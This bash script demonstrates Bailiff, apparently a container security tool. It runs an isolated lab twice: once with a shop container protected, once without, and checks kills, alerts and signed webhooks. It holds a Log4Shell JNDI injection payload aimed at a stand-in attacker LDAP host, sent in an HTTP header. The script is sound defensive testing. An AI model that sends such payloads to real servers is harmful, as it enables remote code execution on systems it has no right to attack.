#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# Plays the case Bailiff was made for, on real containers, twice: protected, and
# as it goes without. Needs root, and the binaries in BAILIFF_BIN. Nothing
# leaves the machine, and nothing stays on it; after a `kill -9` of this script
# a guard cleans up, and tests/harness/cleanup.sh would.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=tests/harness/scratch.sh
source "$here/../../tests/harness/scratch.sh"
# shellcheck source=tests/harness/netns.sh
source "$here/../../tests/harness/netns.sh"
# shellcheck source=tests/harness/engine_runc.sh
source "$here/../../tests/harness/engine_runc.sh"
# shellcheck source=tests/harness/service.sh
source "$here/../../tests/harness/service.sh"

# shellcheck disable=SC2016 # an exploit, not an expansion
exploit='${jndi:ldap://203.0.113.66:1389/a}'
rule="Malicious C2 IPs or domains exploiting log4j"
wrong=0

if [[ -t 1 ]]; then bold=$'\e[1m' plain=$'\e[0m'; else bold='' plain=''; fi
title() { printf '\n%s%s%s\n' "$bold" "$*" "$plain"; }
say() { printf '  %s\n' "$*"; }

# expect WHAT COMMAND...: a thing that has to have happened.
expect() {
  local what=$1
  shift
  if "$@" >/dev/null 2>&1; then
    printf '  ok      %s\n' "$what"
  else
    printf '  MISSING %s\n' "$what"
    wrong=1
  fi
}

finish() {
  local status=$?
  trap - EXIT
  scratch_close || status=1
  exit "$status"
}

for tool in curl ip jq nft nsenter python3 runc ss; do
  command -v "$tool" >/dev/null || die "needs '$tool': run 'make deps'"
done
for name in bailiff bailiffd bailiff-hook bailiff-runc; do
  [[ -x $BAILIFF_BIN/$name ]] || die "no '$BAILIFF_BIN/$name': run 'make'"
done

scratch_isolate "${BASH_SOURCE[0]}" "$@"
trap finish EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP
scratch_open

demo=$SCRATCH/demo
SVC=$demo
supervisor_log=$demo/supervisor.log
webhooks=$demo/webhooks.jsonl

supervisor_noted() { grep -q "$1" "$supervisor_log"; }
shop_answers() {
  [[ $(visit 'plain 1.0') == ok ]]
}
# visit HEADER: the visitor's request, with that X-Api-Version.
visit() {
  in_netns outside curl --silent --max-time 5 --interface 198.51.100.7 \
    --header "X-Api-Version: $1" "http://$INSIDE_WEB:8080/"
}
# at_least NUMBER FILE: the file has so many lines.
at_least() { [[ -e $2 ]] && (($(wc -l <"$2") >= $1)); }

# Timestamps as Falco writes them, in seconds; against $t0 in milliseconds.
jq_times='
  def seconds: capture("^(?<s>[^.]+)\\.(?<f>[0-9]+)Z$")
    | (.s + "Z" | fromdate) + ("0." + .f | tonumber);
  def since($t0): (. - $t0) * 1e6 | round / 1e3;'

timeline() {
  printf '  %10s  %-44s  %-30s  %-9s  %-8s  %s\n' \
    "ms" rule policy container verdict outcome
  service_events | jq -r --argjson t0 "$1" "$jq_times"'
    [(.time | seconds | since($t0)), .rule, .bailiff.policy,
     .bailiff.container.id, .bailiff.verdict, .bailiff.outcome]
    | map(. // "-") | @tsv' |
    while IFS=$'\t' read -r ms name policy container verdict outcome; do
      LC_ALL=C printf '  %10.1f  %-44s  %-30s  %-9s  %-8s  %s\n' \
        "$ms" "$name" "$policy" "$container" "$verdict" "$outcome"
    done
}

# milliseconds FROM TO, both in seconds
milliseconds() { jq -n "($2 - $1) * 1e4 | round / 10"; }
# when_noted PATTERN: the time of the supervisor's first such line.
when_noted() { grep -m 1 "$1" "$supervisor_log" | cut -d ' ' -f 1; }

title "Setting the scene"
mkdir -p "$demo/state" "$demo/rules" "$SCRATCH/bpffs/demo"
mkdir -m 0700 "$demo/run"
netns_scenery
attacker_listen 1389 "$demo/attacker.jsonl"
say "an attacker: $ATTACKER4, LDAP on 1389, in a network namespace"

(umask 077 && head -c 32 /dev/urandom | base64 >"$demo/webhook.secret")
spawn "$demo/webhook.err" python3 "$here/webhook_receiver.py" \
  --secret-file "$demo/webhook.secret" --port-file "$demo/webhook.port" \
  --out "$webhooks"
wait_until 10 "the webhook receiver" test -s "$demo/webhook.port"
install -m 0644 "$here"/*.rules.yaml "$here/policies.yaml" "$demo/rules/"
sed -e "s|@SCRATCH@|$SCRATCH|g" -e "s|@HOOK@|$HOOK|g" \
  -e "s|@RUNC@|$(command -v runc)|g" \
  -e "s|@WEBHOOK_PORT@|$(<"$demo/webhook.port")|g" \
  "$here/bailiff.yaml.in" >"$demo/bailiff.yaml"
service_start
say "bailiffd: two rules, two policies, a webhook on loopback"

rootfs_make "$demo/rootfs"
install -m 0755 "$here/shop.sh" "$demo/rootfs/bin/shop"
bundle_make "$demo/bundle" "$demo/rootfs" shop /bin/shop

title "1. Protected: the shop runs through bailiff-runc"
spawn "$demo/shop.err" "$here/supervisor.sh" "$supervisor_log" "$demo/bundle" \
  shop "$BAILIFF_BIN/bailiff-runc" --bailiff-config "$demo/bailiff.yaml" \
  --root "$SCRATCH/runc"
supervisor=$SPAWNED_PID
if ! wait_until 20 "the shop to answer" shop_answers; then
  cat "$demo/shop.err" "$demo/log" >&2
  die "the protected shop does not run"
fi
say "shop-1 answers its visitors"

attacker_forget_packets
t0=$EPOCHREALTIME
say "the exploit: X-Api-Version: $exploit"
visit "$exploit" >"$demo/answer" || true
# The story is over when the last of it was seen; each wait ends as soon as it
# happened, and what did not is reported below.
wait_until 10 "shop-1 to end" supervisor_noted 'ended shop-1' || true
wait_until 10 "shop-2 to answer" shop_answers || true
wait_until 10 "the alerts" service_event ".rule == \"$rule\"" || true
wait_until 10 "the webhook" grep -qs "\"rule\": *\"$rule\"" "$webhooks" || true
wait_until 10 "shop-2's launch" service_event \
  '.rule == "Launch new container" and .bailiff.container.id == "shop-2"' ||
  true

title "Timeline, in milliseconds since the request"
timeline "$t0"
echo
if supervisor_noted 'started shop-2'; then
  say "shop-1 ended after $(milliseconds "$t0" "$(when_noted 'ended shop-1')") ms," \
    "shop-2 started after $(milliseconds "$t0" "$(when_noted 'started shop-2')") ms"
fi
received=$(jq -n --arg rule "$rule" '[inputs | select(.alert.rule == $rule)
  | .received] | min // empty' "$webhooks" 2>/dev/null || true)
[[ ! $received ]] ||
  say "the alert was at the webhook after $(milliseconds "$t0" "$received") ms"
packets=$(attacker_packets)
say "packets that reached the attacker: $packets"
evidence=$(service_events | jq -r --arg rule "$rule" 'select(.rule == $rule)
  | .bailiff.evidence // empty' | head -n 1)
evidence_kept() {
  api GET "/v1/evidence/$evidence" | jq -e '.state == "complete" and
    [.steps[].step] == ["frozen", "collected", "responded"]'
}
wait_until 10 "the evidence" evidence_kept || true
[[ ! $evidence ]] ||
  say "evidence of shop-1: $evidence, $(api GET "/v1/evidence/$evidence" |
    jq -r '"\(.members) files, \(.archive.bytes) bytes"')"
echo

happened() {
  service_event ".rule == \"$rule\" and .bailiff.container.id == \"shop-1\"
    and $1"
}
signed() {
  jq -en --arg rule "$rule" '[inputs | select(.alert.rule == $rule)]
    | length > 0 and all(.signature == "valid")' "$webhooks"
}
expect "the kernel refused the connection" \
  happened '.bailiff.verdict == "denied"'
expect "no packet reached the attacker" test "$packets" = 0
expect "the container was killed" happened \
  '.bailiff.policy == "Block log4j Post-Exploitation"
   and .bailiff.outcome == "killed"'
expect "evidence of it was kept before the kill" evidence_kept
expect "the softer policy only told" happened \
  '.bailiff.policy == "Log4J IoC" and .bailiff.response == "none"'
expect "its process ended with SIGKILL" supervisor_noted 'ended shop-1 137'
expect "a clean container was started, and recorded" service_event \
  '.rule == "Launch new container" and .bailiff.container.id == "shop-2"'
expect "the clean container answers" shop_answers
expect "the alert reached the webhook, signed" signed

kill "$supervisor"
wait_until 10 "the supervisor to stop" test ! -e "/proc/$supervisor/exe" || true

title "2. For contrast: the same shop, plain runc"
: >"$supervisor_log"
# A bundle of its own: bailiff-runc has put its hooks into the other.
bundle_make "$demo/bare" "$demo/rootfs" shop /bin/shop
spawn "$demo/shop.err" "$here/supervisor.sh" "$supervisor_log" "$demo/bare" \
  bare runc --root "$SCRATCH/runc"
wait_until 20 "the shop to answer" shop_answers
attacker_forget_packets
: >"$demo/attacker.jsonl"
answer=$(visit "$exploit" || true)
wait_until 10 "the attacker" at_least 1 "$demo/attacker.jsonl" || true
packets=$(attacker_packets)
say "the attacker had a visit from:" \
  "$(jq -r .from "$demo/attacker.jsonl" | head -n 1)"
say "packets that reached the attacker: $packets"
echo
expect "without Bailiff the connection goes through" test "$packets" -gt 0
expect "the shop was exploited" test "$answer" = exploited
expect "the container still runs" shop_answers

title "$( ((wrong)) && echo 'Not all of it happened.' || echo 'All of it happened.')"
exit "$wrong"
